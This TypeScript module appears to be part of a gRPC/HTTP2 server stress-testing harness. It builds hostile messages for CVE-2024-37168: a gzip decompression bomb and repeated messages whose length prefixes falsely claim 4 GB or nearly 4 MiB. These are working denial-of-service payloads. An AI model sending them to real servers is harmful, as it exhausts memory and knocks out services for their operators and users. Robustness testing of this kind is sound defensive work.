import { gzipSync } from "node:zlib";
import { type Attack, flood, repeated } from "./attack.ts";
import { grpcMessage, textMessage } from "./grpc-messages.ts";
import { callBlock } from "./header-blocks.ts";
import { dataFrame, flags, headersFrame, maxPayload } from "./http2-frames.ts";
import type { RawConnection } from "./raw-connection.ts";

const unary = callBlock("Echo");
const zipped = callBlock("Echo", { "grpc-encoding": "gzip" });

/** A message over as many DATA frames as it takes. */
function call(connection: RawConnection, block: Buffer, message: Buffer): Buffer {
  const id = connection.nextStream();
  const frames = [headersFrame(id, block)];
  for (let at = 0; at < message.length; at += maxPayload) {
    const last = at + maxPayload >= message.length;
    const payload = message.subarray(at, at + maxPayload);
    connection.spend(payload.length);
    frames.push(dataFrame(id, payload, last ? flags.endStream : flags.none));
  }
  return Buffer.concat(frames);
}

/**
 * gRPC messages that are not what they say: CVE-2024-37168. The bomb grows to so many bytes; up to 60 MB its thousandth
 * part fits into the window of a stream.
 */
export function hostileMessages(bombBytes: number): readonly Attack[] {
  const zeros = gzipSync(Buffer.alloc(bombBytes));
  const bomb = grpcMessage(zeros, zeros.length, 1);
  // 4 GB, and just under the limit of 4 MiB, with a few bytes behind it.
  const lies = [0xffff_ffff, 4_194_000].map((length) => grpcMessage(textMessage("hi"), length));
  return [
    flood("compressed bomb", (connection) => repeated(1, () => [call(connection, zipped, bomb)])),
    flood("lengths that lie", (connection) =>
      repeated(50, (turn) => [call(connection, unary, lies[turn % 2] as Buffer)]),
    ),
  ];
}
